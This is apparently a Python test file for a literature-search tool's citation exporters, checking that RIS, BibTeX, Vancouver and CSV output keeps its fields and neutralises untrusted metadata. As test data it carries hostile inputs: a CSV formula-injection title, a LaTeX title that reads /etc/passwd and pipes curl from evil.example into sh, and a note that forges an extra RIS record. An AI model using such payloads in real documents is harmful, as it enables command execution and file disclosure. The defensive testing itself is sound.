"""Citations and exports: Vancouver through citeproc-py, RIS and BibTeX that parse back with rispy and bibtexparser
and keep title, authors, journal, year, DOI and PMCID; CSV that a spreadsheet cannot run."""

from __future__ import annotations

import csv
import io
import re

import bibtexparser
import rispy
from click.testing import CliRunner

from cli.main import cli
from medcore.types import Document
from search_app import citations
from store import Store

TULAREMIA = Document(id=7, source="pdf", title="First Pediatric Case of Tularemia after a Coyote Bite",
                     authors="Rumble Kurt J., Larson Jeffrey", journal="Case Reports in Infectious Diseases",
                     year=2016, doi="10.1155/2016/8095138", pmcid="PMC4738698", study_type="case_report")
ODD = Document(id=8, source="pdf", title="=cmd|' /C calc'!A0 {unbalanced", authors="Jane Q. Public", year=2020)


def test_vancouver_is_formatted_by_the_nlm_csl_style() -> None:
    (ref,) = citations.vancouver([TULAREMIA])
    assert ref == ("Rumble KJ, Larson J. First Pediatric Case of Tularemia after a Coyote Bite. Case Reports in "
                   "Infectious Diseases. 2016. doi:10.1155/2016/8095138 PubMed Central PMCID: PMC4738698.")
    assert citations.vancouver([]) == []
    assert citations.vancouver([ODD])[0].startswith("Jane Q. Public. "), "a PDF author is not split by guesswork"


def test_ris_parses_back_with_every_field() -> None:
    records = rispy.loads(citations.to_ris([TULAREMIA, ODD], notes={7: "read first"}))
    assert len(records) == 2
    first = records[0]
    assert first["title"] == TULAREMIA.title and first["authors"] == ["Rumble, Kurt J.", "Larson, Jeffrey"]
    assert (first["journal_name"], first["year"], first["doi"]) == (TULAREMIA.journal, "2016", TULAREMIA.doi)
    assert first["custom3"] == "PMC4738698" and first["notes"] == ["read first"]
    assert records[1]["title"] == ODD.title


def test_bibtex_parses_back_with_every_field() -> None:
    library = bibtexparser.parse_string(citations.to_bibtex([TULAREMIA, ODD]))
    assert not library.failed_blocks and len(library.entries) == 2
    entry = library.entries[0]
    fields = {k: f.value for k, f in entry.fields_dict.items()}
    assert entry.entry_type == "article" and entry.key == "Rumble2016_PMC4738698"
    assert fields == {"title": TULAREMIA.title, "author": "Rumble, Kurt J. and Larson, Jeffrey",
                      "journal": TULAREMIA.journal, "year": "2016", "doi": TULAREMIA.doi, "pmcid": "PMC4738698"}
    assert library.entries[1].fields_dict["title"].value.endswith(r"\textbraceleft{}unbalanced"), "a brace is text"


def test_csv_keeps_fields_and_defuses_formulas() -> None:
    rows = list(csv.DictReader(io.StringIO(citations.to_csv([TULAREMIA, ODD], notes={8: "@SUM(1)"}))))
    assert rows[0]["pmcid"] == "PMC4738698" and rows[0]["study_type"] == "case_report" and rows[0]["year"] == "2016"
    assert rows[1]["title"].startswith("'=") and rows[1]["note"] == "'@SUM(1)"


def test_cli_exports_the_result_papers(library_home, monkeypatch) -> None:
    monkeypatch.setenv("MEDEMBED_HOME", str(library_home.paths.home))
    runner = CliRunner()
    out = runner.invoke(cli, ["search", "tularemia coyote bite", "--mode", "bm25", "-k", "3", "--export", "ris"])
    assert out.exit_code == 0, out.output
    records = rispy.loads(out.output)
    assert records[0]["custom3"] == "PMC4738698" and records[0]["doi"] == "10.1155/2016/8095138"
    assert len({r["title"] for r in records}) == len(records), "one record per paper, not per passage"
    bib = runner.invoke(cli, ["search", "methemoglobinemia", "--mode", "bm25", "-k", "1", "--export", "bibtex"])
    assert bibtexparser.parse_string(bib.output).entries[0].fields_dict["pmcid"].value == "PMC4736312"
    ref = runner.invoke(cli, ["search", "methemoglobinemia", "--mode", "bm25", "-k", "1", "--export", "vancouver"])
    assert ref.output.startswith("1. ") and "Methemoglobinemia" in ref.output and "PMC4736312" in ref.output
    docs = [d for d, _ in Store.from_settings(library_home).documents()]
    assert all(citations.vancouver(docs)), "every stored paper has a citation"


HOSTILE_TITLE = r"\input{/etc/passwd} \immediate\write18{curl evil.example|sh} $x^2$ 100% #1 a_b ~ & }{"


def test_bibtex_values_are_latex_escaped() -> None:
    """A title (or author, journal, note) from an untrusted PDF cannot run a LaTeX command when the .bib is used."""
    doc = Document(id=9, source="pdf", title=HOSTILE_TITLE, authors="\\def\\x{1}", journal="J {of} \\relax",
                   year=2021, doi="10.1000/x}\\input{y", pmcid="PMC1")
    bib = citations.to_bibtex([doc], notes={9: "see \\url{x}\nnext line"})
    library = bibtexparser.parse_string(bib)
    assert not library.failed_blocks and len(library.entries) == 1
    fields = {k: f.value for k, f in library.entries[0].fields_dict.items()}
    for name in ("title", "author", "journal", "note"):
        unescaped = re.sub(r"\\(textbackslash|textbraceleft|textbraceright|textasciicircum|textasciitilde)\{\}"
                           r"|\\[$&%#_]", "", fields[name])
        assert "\\" not in unescaped and not re.search(r"(?<!\\)[$&%#^~]", unescaped), (name, fields[name])
    assert fields["title"].startswith(r"\textbackslash{}input\textbraceleft{}/etc/passwd\textbraceright{}")
    assert fields["doi"] == "10.1000/xinputy" and "\n" not in fields["note"]


def test_a_note_with_newlines_stays_one_ris_record() -> None:
    forged = "mine\nER  - \n\nTY  - JOUR\nTI  - Forged paper\r\nAU  - Mallory\u2028UR  - https://evil.example"
    ris = citations.to_ris([TULAREMIA], notes={7: forged})
    records = rispy.loads(ris)
    assert len(records) == 1 and records[0]["title"] == TULAREMIA.title and "Mallory" not in records[0]["authors"]
    assert [line[:2] for line in ris.splitlines() if line].count("TY") == 1
    assert records[0]["notes"] == [" ".join(forged.replace("\u2028", " ").split())]
